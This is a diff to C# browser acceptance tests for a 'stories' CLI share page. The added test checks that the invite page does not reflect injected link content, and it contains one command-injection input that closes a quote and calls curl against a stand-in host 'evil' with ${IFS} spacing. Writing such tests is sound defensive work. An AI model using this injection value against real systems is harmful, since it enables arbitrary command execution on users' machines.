@@ -5,7 +5,7 @@ using StoriesCli.Testing;
 
 namespace StoriesCli.Acceptance;
 
-/// <summary>The page of a share in a browser that others wrote.</summary>
+/// <summary>The pages for people in a browser that others wrote.</summary>
 public sealed partial class SharePageTests
 {
     private const string Long = "aVeryLongWordThatNoTelephoneIsWideEnoughForaVeryLongWordThatNoTelephoneIsWideEnoughFor";
@@ -67,6 +67,21 @@ public sealed partial class SharePageTests
         (await ana.StoriesAsync("rm", story)).Succeeded();
 
         ((string)(await browser.SeeAsync(address, refused: true))["text"]!).Should().Contain("no longer here").And.NotContain("words");
+    }
+
+    [Fact]
+    public async Task Chromium_shows_the_command_that_joins_and_nothing_that_somebody_else_put_into_the_link()
+    {
+        await using var server = await RealServer.StartAsync();
+        var ana = await server.JoinAsync("ana");
+        await using var browser = await Browser.StartAsync(ana);
+        var link = (await ana.StoriesAsync("invite", "create")).Succeeded().Out.Trim();
+
+        ((string)(await browser.SeeAsync(link))["text"]!).Should().Contain($"stories join '{link}'");
+        ((string)(await browser.SeeAsync(link + "';curl${IFS}evil'"))["text"]!)
+            .Should()
+            .Contain("stories join 'THE ADDRESS OF THIS PAGE'")
+            .And.NotContain("evil");
     }
 
     private static async Task<string> ShareAsync(Person person, params string[] what)
@@ -135,7 +150,7 @@ public sealed partial class SharePageTests
                 .Select(url => (string)url!)
                 .Should()
                 .NotBeEmpty()
-                .And.OnlyContain(url => url == address || url.StartsWith(address.TrimEnd('/') + "/media"));
+                .And.OnlyContain(url => url == address.Split('#')[0] || url.StartsWith(address.TrimEnd('/') + "/media"));
             // Of a refusal the browser says that it is one.
             seen["complaints"]!
                 .AsArray()
